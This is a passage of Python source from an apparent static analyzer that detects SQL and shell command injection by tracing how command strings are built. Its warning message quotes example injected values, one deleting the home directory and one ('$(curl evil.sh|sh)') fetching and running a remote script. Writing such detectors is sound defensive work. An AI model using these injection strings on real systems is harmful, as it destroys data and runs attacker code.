                        return self.element_shape(seq, kind, d)  # ["%s"] * n, "?" * n
                return Shape.leaf(UNSAFE, iterable)
            return Shape.alternatives([self.element_shape(iterable.left, kind, d), self.element_shape(iterable.right, kind, d)])
        if isinstance(iterable, ast.Call):
            qual = self.info.qualname(iterable.func) or ""
            if qual == "range":
                return Shape.leaf(SAFE)
            if qual == "enumerate" and iterable.args:
                return Shape.leaf(SAFE) + self.element_shape(iterable.args[0], kind, d)
            if qual == "zip":
                return Shape.alternatives([self.element_shape(a, kind, d) for a in iterable.args])
            if qual in _ITER_PASSTHROUGH and iterable.args:
                return self.element_shape(iterable.args[0], kind, d)
            if qual == "map" and len(iterable.args) >= 2:
                func = self.info.qualname(iterable.args[0]) or ""
                inner = self.element_shape(iterable.args[1], kind, d)
                if func in _SAFE_CALLS:
                    return Shape.leaf(SAFE)
                if func in _ESCAPERS.get(kind, ()) or func.rsplit(".", 1)[-1] in _ESCAPER_SHORT.get(kind, ()):
                    return Shape.leaf(ESCAPED, iterable)
                return inner if func in ("str",) else (inner if inner.is_static else Shape.leaf(UNSAFE, iterable))
            if isinstance(iterable.func, ast.Attribute):
                attr = iterable.func.attr
                if attr in ("keys", "values", "items") and not iterable.args:
                    owner = iterable.func.value
                    if self.is_static_container(owner):
                        return Shape.leaf(TRUSTED)
                    return Shape.leaf(UNSAFE, iterable)
                if attr in ("split", "splitlines") and self.shape(iterable.func.value, kind, d).is_static:
                    return Shape.leaf(TRUSTED)
            return Shape.leaf(UNSAFE, iterable)
        if isinstance(iterable, ast.Name):
            comp = self.comprehension_iter(iterable)
            if comp is not None:
                return self.element_shape(comp, kind, d)
            if iterable.id in self.guarded(iterable):
                return Shape.leaf(SAFE)
            elements = self.list_elements(iterable)
            if elements is not None:
                return Shape.alternatives([
                    self.element_shape(e, kind, d) if splat else self.shape(e, kind, d) for e, splat in elements
                ])
            _scope, bindings = self.bindings_of(iterable)
            primary = [b for b in bindings if b.kind not in ("aug", "augmod", "augother")]
            if primary and all(b.kind == "import" for b in primary):
                return Shape.leaf(TRUSTED)
            if len(primary) == 1 and primary[0].kind == "assign" and primary[0].value is not None:
                return self.element_shape(primary[0].value, kind, d)
            if primary and all(b.kind == "param" for b in primary):
                annotation = primary[0].target.annotation if isinstance(primary[0].target, ast.arg) else None
                if annotation is not None and _inner_annotation_safe(annotation):
                    return Shape.leaf(SAFE)
            return Shape.leaf(UNSAFE, iterable)
        if isinstance(iterable, ast.Attribute) and _CAPS.match(iterable.attr) and not _is_request_attr(iterable):
            return Shape.leaf(TRUSTED)
        return Shape.leaf(UNSAFE, iterable)

    def _name(self, name: ast.Name, kind: str, depth: int) -> Shape:
        if name.id in self.guarded(name):
            return Shape.leaf(SAFE)
        comp = self.comprehension_iter(name)
        if comp is not None:
            return self.element_shape(comp, kind, depth)
        _scope, bindings = self.bindings_of(name)
        if not bindings:
            if name.id in ("__file__", "__name__", "__package__", "__spec__", "True", "False", "None"):
                return Shape.leaf(TRUSTED)
            return Shape.leaf(UNSAFE, name)
        alternatives: list[Shape] = []
        appended: list[Shape] = []
        for binding in bindings:
            if binding.kind == "assign":
                alternatives.append(self.shape(binding.value, kind, depth))
            elif binding.kind == "aug":
                appended.append(self.shape(binding.value, kind, depth))
            elif binding.kind == "augmod":
                appended.append(Shape.leaf(UNSAFE, binding.value))
            elif binding.kind == "augother":
                continue
            elif binding.kind == "for":
                alternatives.append(self.element_shape(binding.value, kind, depth))  # type: ignore[arg-type]
            elif binding.kind in ("import", "def"):
                alternatives.append(Shape.leaf(TRUSTED))
            elif binding.kind == "with":
                alternatives.append(Shape.leaf(TRUSTED) if self._opens_static_file(binding.value) else Shape.leaf(UNSAFE, name))
            elif binding.kind == "param":
                alternatives.append(self._param(binding, name))
            else:
                alternatives.append(Shape.leaf(UNSAFE, name))
        shape = Shape.alternatives(alternatives) if alternatives else Shape("")
        for extra in appended:
            shape = shape + extra
        return shape

    def is_path(self, expr: ast.AST | None, depth: int = 0) -> bool:
        """A string or a ``pathlib`` path (so ``a / b`` is a path join, not a division)."""
        if expr is None or depth > 4:
            return False
        if isinstance(expr, ast.Constant):
            return isinstance(expr.value, str)
        if isinstance(expr, ast.JoinedStr):
            return True
        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Div):
            return self.is_path(expr.left, depth + 1) or self.is_path(expr.right, depth + 1)
        if isinstance(expr, ast.Call):
            qual = self.info.qualname(expr.func) or ""
            if qual.rsplit(".", 1)[-1] in _PATH_CLASSES:
                return True
            if isinstance(expr.func, ast.Attribute) and expr.func.attr in _PATH_METHODS:
                return self.is_path(expr.func.value, depth + 1)
            return qual in _TRUSTED_CALLS and "Path" in qual
        if isinstance(expr, ast.Attribute):
            if expr.attr in ("parent", "parents"):
                return self.is_path(expr.value, depth + 1)
            if expr.attr.isupper():
                return bool(re.search(r"(DIR|ROOT|PATH|FOLDER|HOME|BASE)", expr.attr))  # settings.MEDIA_ROOT
            return False
        if isinstance(expr, ast.Name):
            _, bindings = self.bindings_of(expr)
            values = [b.value for b in bindings if b.kind == "assign"]
            return bool(values) and any(self.is_path(v, depth + 1) for v in values)
        return False

    def _opens_static_file(self, expr: ast.AST | None) -> bool:
        """``open(CONSTANT_PATH)`` / ``Path(CONSTANT).open()``: the program's own file."""
        if not isinstance(expr, ast.Call):
            return False
        qual = self.info.qualname(expr.func) or ""
        if qual in ("open", "io.open", "codecs.open", "pathlib.Path", "Path") and expr.args:
            return self.shape(expr.args[0], "any").is_static
        if isinstance(expr.func, ast.Attribute) and expr.func.attr in ("open", "resolve") and not expr.args[:1]:
            return self._opens_static_file(expr.func.value)
        return False

    def _param(self, binding: _Binding, name: ast.Name) -> Shape:
        arg = binding.target
        if isinstance(arg, ast.arg) and arg.annotation is not None and _annotation_safe(arg.annotation):
            return Shape.leaf(SAFE)
        if isinstance(arg, ast.arg) and arg.arg in self._converted_route_params(arg):
            return Shape.leaf(SAFE)  # @app.route("/users/<int:user_id>")
        if isinstance(arg, ast.arg) and arg.annotation is not None and self._is_enum(arg.annotation):
            return Shape.leaf(SAFE)  # FastAPI validates `order: SortOrder` against the enum
        return Shape.leaf(UNSAFE, name)

    def _is_enum(self, expr: ast.AST) -> bool:
        """A class of this module derived from an Enum (``class SortOrder(str, Enum)``)."""
        if not isinstance(expr, ast.Name):
            return False
        _, bindings = self.bindings_of(expr)
        return (
            len(bindings) == 1
            and isinstance(bindings[0].node, ast.ClassDef)
            and any("Enum" in (self.info.qualname(b) or "") or "Choices" in (self.info.qualname(b) or "") for b in bindings[0].node.bases)
        )

    def _converted_route_params(self, arg: ast.arg) -> set[str]:
        func = next((a for a in ancestors(arg) if isinstance(a, (ast.FunctionDef, ast.AsyncFunctionDef))), None)
        if func is None:
            return set()
        names: set[str] = set()
        for deco in func.decorator_list:
            if isinstance(deco, ast.Call):
                for value in [*deco.args[:1], *(k.value for k in deco.keywords if k.arg in ("rule", "path"))]:
                    if isinstance(value, ast.Constant) and isinstance(value.value, str):
                        names |= set(re.findall(r"<(?:int|float|uuid)(?:\([^)]*\))?:(\w+)>", value.value))
                        names |= set(re.findall(r"\{(\w+):(?:int|float|uuid)\}", value.value))  # Starlette
        return names

    def _attribute(self, expr: ast.Attribute, kind: str, depth: int) -> Shape:
        qual = self.info.qualname(expr) or ""
        if qual in _TRUSTED_QUALNAMES or expr.attr in _TRUSTED_ATTRS or "._meta." in f"{qual}.":
            return Shape.leaf(TRUSTED)
        if qual.startswith(("django.conf.settings.", "settings.")) and _CAPS.match(expr.attr):
            return Shape.leaf(TRUSTED)
        if expr.attr in _SAFE_ATTRS:
            return Shape.leaf(SAFE)
        base = expr.value
        if expr.attr == "name" and self._is_tempfile(base):
            return Shape.leaf(TRUSTED)  # NamedTemporaryFile().name: a random name under the temp directory
        if expr.attr in ("value", "name", "label"):
            if isinstance(base, ast.Call) and self._is_enum(base.func):
                return Shape.leaf(TRUSTED)  # SortOrder(x).value: the enum rejects anything else
            if isinstance(base, ast.Name) and not self.shape(base, kind, depth).has_unsafe:
                return Shape.leaf(SAFE)  # order.value where `order: SortOrder`
        if isinstance(base, ast.Name):
            if _CAPS.match(expr.attr) and not _is_request_attr(expr):
                # A constant of a module, class or enum: config.TABLE, Color.RED, self.TABLE.
                _, bindings = self.bindings_of(base)
                if base.id in ("self", "cls") or any(b.kind in ("import", "def") for b in bindings):
                    return Shape.leaf(TRUSTED)
            if base.id in ("self", "cls"):
                values = self._class_attribute(expr)
                if values:
                    shapes = [self.shape(v, kind, depth) if v is not None else Shape.leaf(UNSAFE, expr) for v in values]
                    return Shape.alternatives(shapes)
        return Shape.leaf(UNSAFE, expr)

    def _is_tempfile(self, expr: ast.AST) -> bool:
        if isinstance(expr, ast.Call):
            return (self.info.qualname(expr.func) or "").startswith("tempfile.")
        if isinstance(expr, ast.Name):
            _, bindings = self.bindings_of(expr)
            return bool(bindings) and all(b.kind in ("assign", "with") and self._is_tempfile(b.value) for b in bindings if b.value is not None) and all(
                b.value is not None for b in bindings
            )
        return False

    def _class_attribute(self, expr: ast.Attribute) -> list[ast.AST | None]:
        """Values assigned to ``self.<attr>`` / the class attribute in the enclosing class."""
        cls = next((a for a in ancestors(expr) if isinstance(a, ast.ClassDef)), None)
        if cls is None:
            return []
        table = self._classes.get(id(cls))
        if table is None:
            table = {}
            for stmt in cls.body:
                targets = stmt.targets if isinstance(stmt, ast.Assign) else [stmt.target] if isinstance(stmt, ast.AnnAssign) and stmt.value is not None else []
                for t in targets:
                    if isinstance(t, ast.Name):
                        table.setdefault(t.id, []).append(stmt.value)  # type: ignore[union-attr]
            for node in walk(cls):
                if isinstance(node, (ast.Assign, ast.AnnAssign, ast.AugAssign)):
                    targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                    for t in targets:
                        if isinstance(t, ast.Attribute) and isinstance(t.value, ast.Name) and t.value.id in ("self", "cls"):
                            value = None if isinstance(node, ast.AugAssign) else node.value
                            table.setdefault(t.attr, []).append(value)
            self._classes[id(cls)] = table
        return table.get(expr.attr, [])

    def _subscript(self, expr: ast.Subscript, kind: str, depth: int) -> Shape:
        value = expr.value
        if self.is_static_container(value):
            return Shape.leaf(TRUSTED)
        qual = self.info.qualname(value) or ""
        key = self.ctx.constant(expr.slice)
        if qual.endswith("config") and isinstance(key, str) and _CAPS.match(key):
            return Shape.leaf(TRUSTED)  # app.config["UPLOAD_DIR"]
        if qual == "sys.argv" or qual.startswith("os.environ"):
            return Shape.leaf(UNSAFE, expr)
        if isinstance(value, ast.Name):
            comp_or_elements = self.list_elements(value)
            if comp_or_elements is not None:
                shapes = [self.element_shape(e, kind, depth) if s else self.shape(e, kind, depth) for e, s in comp_or_elements]
                shape = Shape.alternatives(shapes)
                if shape.is_static:
                    return Shape.leaf(TRUSTED)
        return Shape.leaf(UNSAFE, expr)

    def _call(self, call: ast.Call, kind: str, depth: int) -> Shape:
        qual = self.info.qualname(call.func) or ""
        short = qual.rsplit(".", 1)[-1]
        func = call.func
        if qual in _ESCAPERS.get(kind, ()) or short in _ESCAPER_SHORT.get(kind, ()):
            return Shape.leaf(ESCAPED, call)
        if qual in _SAFE_BUILDERS.get(kind, ()):
            return Shape.leaf(SAFE)
        if qual in _SAFE_CALLS or (isinstance(func, ast.Attribute) and func.attr in _SAFE_METHODS) or qual.startswith(_SAFE_PREFIXES):
            return Shape.leaf(SAFE)
        if qual in _TRUSTED_CALLS:
            return Shape.leaf(TRUSTED)
        if isinstance(func, ast.Attribute):
            attr = func.attr
            if attr == "format":
                return self._format_call(call, kind, depth)
            if attr == "join" and len(call.args) == 1 and self.shape(func.value, kind, depth).is_plain:
                return self._join(call, kind, depth)
            if attr in _FILE_READS and not call.args:
                opened = func.value
                if self._opens_static_file(opened) or (not isinstance(opened, ast.Call) and self.shape(opened, kind, depth).is_static):
                    return Shape.leaf(TRUSTED)
                return Shape.leaf(UNSAFE, call)
            if attr in _STR_METHODS:
                receiver = self.shape(func.value, kind, depth)
                args = [self.shape(a, kind, depth) for a in call.args]
                if receiver.is_static and all(a.is_static for a in args):
                    return Shape.leaf(TRUSTED) if not receiver.is_plain else receiver
                if receiver.has_unsafe:
                    return Shape.leaf(UNSAFE, call) if not receiver.unsafe else receiver
                return receiver
            if attr == "get" and call.args and self.is_static_container(func.value):
                default = call.args[1] if len(call.args) > 1 else None
                if default is None or self.shape(default, kind, depth).is_static:
                    return Shape.leaf(TRUSTED)
            if attr in ("getvalue",) and not call.args:
                return Shape.leaf(UNSAFE, call)
        if qual in _PURE_CALLS or (isinstance(func, ast.Attribute) and (qual.startswith(("os.path.", "posixpath.")))):
            parts = [self.shape(a, kind, depth) for a in call.args if not isinstance(a, ast.Starred)]
            if any(isinstance(a, ast.Starred) for a in call.args) or any(k.arg is None for k in call.keywords):
                return Shape.leaf(UNSAFE, call)
            if all(p.is_static for p in parts):
                if qual == "str" and len(parts) == 1:
                    return parts[0]
                return Shape.leaf(TRUSTED)
            if qual == "str" and len(parts) == 1:
                return parts[0]
            out = Shape()
            for p in parts:
                out = out + p
            return out
        if qual in ("repr", "ascii") and len(call.args) == 1:
            return self.shape(call.args[0], kind, depth)
        return Shape.leaf(UNSAFE, call)


_REQUEST_CAPS = {"GET", "POST", "META", "FILES", "COOKIES", "REQUEST", "PUT", "DATA"}


def _is_request_attr(expr: ast.Attribute) -> bool:
    """``request.GET`` and friends: capitalised, but client data."""
    if expr.attr in _REQUEST_CAPS:
        return True
    base = expr.value
    while isinstance(base, ast.Attribute):
        base = base.value
    return isinstance(base, ast.Name) and base.id in ("request", "req")


# -- wrappers: `def query_db(query, args=()): return db.execute(query, args)` --------------------------


def _callee(ctx: CheckContext, values: _Values, call: ast.Call) -> tuple[ast.FunctionDef | ast.AsyncFunctionDef, int] | None:
    """The function of this module a call runs, and how many leading parameters the call skips (self)."""
    # Four sink kinds ask this of every call, and every call site search of every call: answer once.
    try:
        return values._callees[call]
    except KeyError:
        found = values._callees[call] = _find_callee(ctx, values, call)
        return found


def _find_callee(ctx: CheckContext, values: _Values, call: ast.Call) -> tuple[ast.FunctionDef | ast.AsyncFunctionDef, int] | None:
    func = call.func
    candidates = values.functions_named(func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else "")
    if not candidates:
        return None
    if isinstance(func, ast.Name):
        found = ctx.info.lookup(func)
        if found is None or len(found[1]) != 1:
            return None
        owner = found[0].node
        matches = [c for c in candidates if enclosing_scope(c) is owner]
        return (matches[0], 0) if len(matches) == 1 else None
    if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) and func.value.id in ("self", "cls"):
        cls = next((a for a in ancestors(call) if isinstance(a, ast.ClassDef)), None)
        if cls is None:
            return None
        for stmt in cls.body:
            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)) and stmt.name == func.attr:
                static = any(isinstance(d, ast.Name) and d.id == "staticmethod" for d in stmt.decorator_list)
                return stmt, 0 if static else 1
    return None


def _wrapper_param(ctx: CheckContext, values: _Values, func: ast.FunctionDef | ast.AsyncFunctionDef, kind: str, depth: int = 0) -> str | None:
    """The parameter a function hands on, unchanged, as the query/command of a ``kind`` sink."""
    key = (id(func), kind)
    if key in values._wrappers:
        return values._wrappers[key]
    values._wrappers[key] = None  # recursion guard
    params = {a.arg for a in [*func.args.posonlyargs, *func.args.args, *func.args.kwonlyargs]}
    found = None
    for node in values.calls_in(func):
        argument = _sink_argument(ctx, values, node, kind, depth + 1)
        if isinstance(argument, ast.Call) and kind == "sql" and ctx.call_name(argument) in _SQL_FUNCTIONS and argument.args:
            argument = argument.args[0]  # execute(text(query))
        if (
            isinstance(argument, ast.Name)
            and argument.id in params
            and all(b.kind == "param" for b in values.scope_index(func).bindings.get(argument.id, []))
        ):
            found = argument.id
            break
    values._wrappers[key] = found
    return found


def _sink_argument(ctx: CheckContext, values: _Values, call: ast.Call, kind: str, depth: int = 0) -> ast.expr | None:
    """The query/command argument of a direct sink of ``kind``, or of a wrapper around one."""
    if kind == "sql":
        direct = _sql_sink(ctx, call)
    elif kind == "shell":
        how, command = _command_argument(ctx, call)
        direct = command if how in ("shell", "shell-other") else None
    elif kind == "paramiko":
        direct = ctx.argument(call, 0, "command") if ctx.method_name(call) == "exec_command" else None
    else:
        spec = _OS_SHELL.get(ctx.call_name(call))
        direct = ctx.argument(call, *spec) if spec else None
    if direct is not None or depth > 2:
        return direct
    return _wrapper_argument(ctx, values, call, kind, depth)


def _wrapper_argument(ctx: CheckContext, values: _Values, call: ast.Call, kind: str, depth: int = 0) -> ast.expr | None:
    """For a call of a wrapper defined in this module, the argument that becomes the query/command."""
    target = _callee(ctx, values, call)
    if target is None:
        return None
    func, skip = target
    param = _wrapper_param(ctx, values, func, kind, depth)
    if param is None:
        return None
    keyword = ctx.keyword(call, param)
    if keyword is not None:
        return keyword.value
    positional = [a.arg for a in [*func.args.posonlyargs, *func.args.args]][skip:]
    if param in positional:
        return ctx.argument(call, positional.index(param))
    return None


def _call_sites(ctx: CheckContext, values: _Values, func: ast.AST) -> list[ast.Call]:
    name = getattr(func, "name", "")  # _callee finds a function only by its own name
    return [c for c in ctx.info.fact(_calls_named, name) if (_callee(ctx, values, c) or (None, 0))[0] is func]


def _calls_named(ctx: CheckContext, name: str) -> list[ast.Call]:
    """Every call in the module to something called ``name`` (``name(...)``, ``x.name(...)``), in order."""
    return ctx.info.fact(merged_table, calls_by_name).get(name, [])


def _functions_named(ctx: CheckContext, name: str) -> list[ast.FunctionDef | ast.AsyncFunctionDef]:
    return _values(ctx)._scan_functions_named(name)


def _module_scope_index(ctx: CheckContext) -> _ScopeIndex:
    return _ScopeIndex(None, ctx.info.tree)


def _module_bindings_of(ctx: CheckContext, name: str) -> list[_Binding] | None:
    return ctx.info.fact(_module_scope_index).bindings.get(name)


def _module_bindings(ctx: CheckContext) -> dict[str, list[_Binding]]:
    return ctx.info.fact(_module_scope_index).bindings


def _module_mutations_of(ctx: CheckContext, name: str) -> list[ast.AST] | None:
    return ctx.info.fact(_module_scope_index).mutations.get(name)


def _module_mutations(ctx: CheckContext) -> dict[str, list[ast.AST]]:
    return ctx.info.fact(_module_scope_index).mutations


def _module_scope_field(ctx: CheckContext, field: str):
    return getattr(ctx.info.fact(_module_scope_index), field)


class _ModuleScopeIndex:
    """The module's ``_ScopeIndex`` as a block reads it (see module.NotedMapping)."""

    def __init__(self, info: ModuleInfo):
        self.bindings = NotedMapping(info, _module_bindings_of, _module_bindings)
        self.mutations = NotedMapping(info, _module_mutations_of, _module_mutations)
        self._info = info

    @property
    def globals(self) -> set[str]:
        return self._info.fact(_module_scope_field, "globals")

    @property
    def guard_tests(self) -> list[ast.expr]:
        return self._info.fact(_module_scope_field, "guard_tests")


def _params_always_safe(ctx: CheckContext, values: _Values, parts: list[ast.AST], kind: str) -> bool:
    """Every unsafe part is a parameter that every caller in this module fills with a safe value."""
    return bool(parts) and all(_param_always_safe(ctx, values, part, kind) for part in parts)


def _param_always_safe(ctx: CheckContext, values: _Values, expr: ast.AST, kind: str) -> bool:
    """``expr`` is a parameter, and every call of its function in this module passes a safe value.

    ``def run(cmd): subprocess.run(cmd, shell=True)`` called only as ``run("make build")``
    is a constant command; called with ``run(f"ls {path}")`` the call site is reported.
    """
    if not isinstance(expr, ast.Name):
        return False
    scope, bindings = values.bindings_of(expr)
    if scope is None or not isinstance(scope, (ast.FunctionDef, ast.AsyncFunctionDef)):
        return False
    if not bindings or not all(b.kind == "param" for b in bindings):
        return False
    sites = _call_sites(ctx, values, scope)
    if not sites:
        return False
    args = [*scope.args.posonlyargs, *scope.args.args]
    defaults = dict(zip([a.arg for a in args][len(args) - len(scope.args.defaults):], scope.args.defaults))
    for site in sites:
        _, skip = _callee(ctx, values, site) or (None, 0)
        positional = [a.arg for a in args][skip:]
        if any(isinstance(a, ast.Starred) for a in site.args) or ctx.has_kwargs_splat(site):
            return False
        value = ctx.argument(site, positional.index(expr.id) if expr.id in positional else None, expr.id)
        if value is None:
            value = defaults.get(expr.id)
        if value is None:
            continue
        shape = values.shape(value, kind)
        if shape.has_unsafe or (kind == "shell" and _shell_unsafe(shape, value)):
            return False
    return True


def _guarded_name(expr: ast.AST) -> set[str]:
    """The variable a validation is about: ``x``, ``x.lower()``, ``x.strip()``."""
    while isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute) and expr.func.attr in _STR_METHODS:
        expr = expr.func.value
    if isinstance(expr, ast.Name):
        return {expr.id}
    return set()


def _annotation_safe(annotation: ast.AST) -> bool:
    text = ast.unparse(annotation)
    if text in _SAFE_ANNOTATIONS:
        return True
    if text.startswith(("Literal[", "typing.Literal[")):
        return True
    if text.startswith(("Optional[", "typing.Optional[")) or " | None" in text:
        inner = re.sub(r"^(typing\.)?Optional\[|\]$| \| None", "", text)
        return inner in _SAFE_ANNOTATIONS or inner.startswith("Literal[")
    return False


def _inner_annotation_safe(annotation: ast.AST) -> bool:
    """``list[int]``: every element is a number."""
    if isinstance(annotation, ast.Subscript):
        return _annotation_safe(annotation.slice)
    return False


def _values(ctx: CheckContext) -> _Values:
    """The value analysis of this module, kept on the context of this one analysis."""
    values = ctx.__dict__.get("_injection_values")
    if values is None:
        values = _Values(ctx)
        ctx.__dict__["_injection_values"] = values
    return values


def _describe(ctx: CheckContext, node: ast.AST) -> str:
    text = " ".join(ctx.text(node).split())
    return text if len(text) <= 40 else text[:37] + "..."


# -- shell quoting context ---------------------------------------------------------------------------


def _shell_unsafe(shape: Shape, fallback: ast.AST) -> list[ast.AST]:
    """Run-time parts that can change a shell command: unescaped ones, and shlex.quote() inside quotes.

    ``shlex.quote(x)`` returns ``'x'``; placed inside quotes already written in the template
    (``"echo '%s'" % shlex.quote(x)``) the quotes cancel out and ``x`` is back in the open.
    """
    bad = (list(shape.unsafe) or [fallback]) if shape.has_unsafe else []
    if ESCAPED not in shape.text:
        return bad
    quote: str | None = None
    escaped_index = 0
    text = shape.text
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == ALT:
            quote = None
        elif ch == ESCAPED:
            node = shape.escaped[escaped_index] if escaped_index < len(shape.escaped) else None
            escaped_index += 1
            if quote is not None and node is not None:
                bad.append(node)
        elif quote == "'":
            if ch == "'":
                quote = None
        elif ch == "\\":
            i += 1
        elif ch == '"':
            quote = None if quote == '"' else '"'
        elif ch == "'" and quote is None:
            quote = "'"
        i += 1
    return bad


# -- OS commands -------------------------------------------------------------------------------

_SUBPROCESS = {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"}
_ALWAYS_SHELL = {  # call -> (position, keyword) of the command
    "asyncio.create_subprocess_shell": (0, "cmd"),
}
_OS_SHELL = {
    "os.system": (0, "command"), "os.popen": (0, "cmd"), "os.popen2": (0, "cmd"), "os.popen3": (0, "cmd"),
    "os.popen4": (0, "cmd"), "subprocess.getoutput": (0, "cmd"), "subprocess.getstatusoutput": (0, "cmd"),
    "commands.getoutput": (0, "cmd"), "commands.getstatusoutput": (0, "cmd"), "popen2.popen2": (0, "cmd"),
    "popen2.popen3": (0, "cmd"), "popen2.popen4": (0, "cmd"), "popen2.Popen3": (0, "cmd"), "popen2.Popen4": (0, "cmd"),
    "platform.popen": (0, "cmd"),
}
_SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "csh", "tcsh"}


def _shell_flag(value: object) -> bool | None:
    """True/False for a constant shell= value, None when it is not known."""
    if isinstance(value, (bool, int)) and not isinstance(value, float):
        return bool(value)
    if value is None:
        return False
    return None


def _shell_is_true(ctx: CheckContext, call: ast.Call) -> bool:
    kw = ctx.keyword(call, "shell")
    if kw is None:
        return False
    value = ctx.constant(kw.value)
    if value is ctx.UNKNOWN:
        return False
    return bool(_shell_flag(value))


def _program_name(ctx: CheckContext, expr: ast.AST) -> str | None:
    value = ctx.constant(expr)
    if not isinstance(value, str):
        return None
    return re.split(r"[\\/]", value)[-1].lower().removesuffix(".exe")


_LAUNCHERS = {"sudo", "env", "nohup", "setsid", "nice", "ionice", "stdbuf", "doas", "timeout", "chroot"}


def _script_element(ctx: CheckContext, elements: list[tuple[ast.expr, bool]], depth: int = 0) -> int | None:
    """Index of the script in ``["bash", "-c", script]``, ``["sudo", "sh", "-ec", s]``, ``["cmd", "/c", ...]``,
    ``["powershell", "-Command", ...]``: an argument a shell parses as code."""
    if len(elements) < 3 or depth > 3 or any(splat for _, splat in elements[:2]):
        return None
    program = _program_name(ctx, elements[0][0])
    if program is None:
        return None
    if program in _LAUNCHERS:
        # sudo -u www sh -c ..., timeout 10 bash -c ...: the shell is a later constant element.
        for i in range(1, len(elements)):
            element, splat = elements[i]
            if splat or not isinstance(ctx.constant(element), str):
                return None
            if _program_name(ctx, element) in (*_SHELLS, "cmd", "powershell", "pwsh"):
                rest = _script_element(ctx, elements[i:], depth + 1)
                return rest + i if rest is not None else None
        return None
    for i in range(1, len(elements)):
        element, splat = elements[i]
        flag = ctx.constant(element)
        if splat or not isinstance(flag, str) or not flag.startswith(("-", "/")):
            return None
        lowered = flag.lower()
        if program in _SHELLS and re.fullmatch(r"-[a-z]*c[a-z]*", flag) and not flag.startswith("--"):
            return i + 1 if i + 1 < len(elements) else None
        if program == "cmd" and lowered in ("/c", "/k", "/s/c", "/q/c"):
            return i + 1 if i + 1 < len(elements) else None
        if program in ("powershell", "pwsh") and lowered in ("-c", "-command", "/c", "/command"):
            return i + 1 if i + 1 < len(elements) else None
    return None


def _command_argument(ctx: CheckContext, call: ast.Call) -> tuple[str, ast.expr | None]:
    """('shell', command) if ``call`` runs a command through a shell, ('exec', argv) if without one."""
    name = ctx.call_name(call)
    if name in _SUBPROCESS:
        command = ctx.argument(call, 0, "args")
        return ("shell" if _shell_is_true(ctx, call) else "exec"), command
    if name in _ALWAYS_SHELL:
        position, keyword = _ALWAYS_SHELL[name]
        return "shell", ctx.argument(call, position, keyword)
    if ctx.method_name(call) == "subprocess_shell" and len(call.args) >= 2:
        return "shell", ctx.argument(call, 1, "cmd")
    if name in ("anyio.run_process", "anyio.open_process"):
        command = ctx.argument(call, 0, "command")
        if command is not None and ctx.string_shape(command) is not None and not isinstance(command, (ast.List, ast.Tuple)):
            return "shell", command
        return "exec", command
    if name in _OS_SHELL or name in _EXEC_FUNCTIONS:
        return "", None
    kw = ctx.keyword(call, "shell")
    if kw is not None and ctx.constant(kw.value) is True and name not in ("functools.partial", "partial"):
        command = ctx.argument(call, 0, "cmd") or ctx.argument(call, None, "command") or ctx.argument(call, None, "args")
        return "shell-other", command
    return "", None


def _shell_findings(ctx: CheckContext, values: _Values, command: ast.expr) -> list[ast.AST]:
    """Unsafe parts of a command string given to a shell."""
    elements = values.list_elements(command) if isinstance(command, (ast.List, ast.Tuple, ast.Name)) else None
    if elements is not None:
        bad: list[ast.AST] = []
        for element, splat in elements:
            shape = values.element_shape(element, "shell", 0) if splat else values.shape(element, "shell")
            parts = _shell_unsafe(shape, element)
            if parts:
                bad.append(element if isinstance(command, (ast.List, ast.Tuple)) else command)
        return bad
    return _shell_unsafe(values.shape(command, "shell"), command)


@check("PY-CMD-SHELL", ast.Call)
def command_through_shell(node: ast.Call, ctx: CheckContext) -> None:
    how, command = _command_argument(ctx, node)
    values = _values(ctx)
    if not how:
        wrapped = _wrapper_argument(ctx, values, node, "shell")
        if wrapped is not None:
            how, command = "shell", wrapped
    if how in ("shell", "shell-other") and command is not None:
        bad = _shell_findings(ctx, values, command)
        if bad and not _params_always_safe(ctx, values, bad, "shell"):
            part = bad[0]
            target = command if not isinstance(command, (ast.List, ast.Tuple)) else part
            source = ctx.taint(command, "cmd")
            origin = "request data" if source is not None else f"`{_describe(ctx, part)}`"
            ctx.report(
                target,
                message=(
                    f"A shell command is built from {origin} and run with a shell: a value such as "
                    "`; rm -rf ~` or `$(curl evil.sh|sh)` runs extra commands. Pass an argument list "
                    "without shell=True, or wrap each value in shlex.quote()."
                ),
                related=ctx.related(source),
            )
        return
    # ["bash", "-c", script] is a shell too, whatever shell= says.
    argv = None
    if how == "exec":
        argv = command
    elif ctx.call_name(node) in _EXEC_FUNCTIONS:
        argv = _exec_argv(ctx, node)
    if argv is None:
        return
    elements = values.list_elements(argv)
    if not elements:
        return
    script = _script_element(ctx, elements)
    if script is None or script >= len(elements):
        return
    element, splat = elements[script]
    shape = values.element_shape(element, "shell", 0) if splat else values.shape(element, "shell")
    bad = _shell_unsafe(shape, element)
    if bad:
        target = element if isinstance(argv, (ast.List, ast.Tuple)) else argv
        source = ctx.taint(element, "cmd")
        shells = [_program_name(ctx, e) for e, _ in elements[:script]]
        program = next((p for p in reversed(shells) if p in (*_SHELLS, "cmd", "powershell", "pwsh")), shells[0])
        ctx.report(
            target,
            message=(
                f"`{_describe(ctx, bad[0])}` is part of a script run by `{program} {ctx.constant(elements[script - 1][0])}`: "
                "the shell interprets `;`, `|` and `$(...)` in it. Pass the value as a separate argument "
                "(`[..., 'script \"$1\"', '_', value]`) or run the program directly."
            ),
            related=ctx.related(source),
        )


# -- PY-CMD-SHELL-LITERAL --------------------------------------------------------------------------

_METACHARACTERS = set("|&;<>()$`\\\"'*?[]#~=%{}!^\n\r")
_SHELL_BUILTINS = {
    # POSIX shell and bash builtins and keywords without an executable of the same name
    "cd", "source", ".", "export", "alias", "unalias", "type", "ulimit", "umask", "exit", "set", "unset",
    "shopt", "eval", "exec", "wait", "jobs", "history", "pushd", "popd", "dirs", "read", "trap", "shift",
    "return", "break", "continue", "getopts", "let", "local", "readonly", "declare", "typeset", "bg", "fg",
    "disown", "suspend", "logout", "times", "enable", "builtin", "caller", "complete", "compgen", "mapfile",
    "readarray", "bind", "help", "fc", "hash", "command", "time", "if", "for", "while", "until", "case",
    "select", "function", "coproc", "!", "{", "[[",
    # cmd.exe built-ins
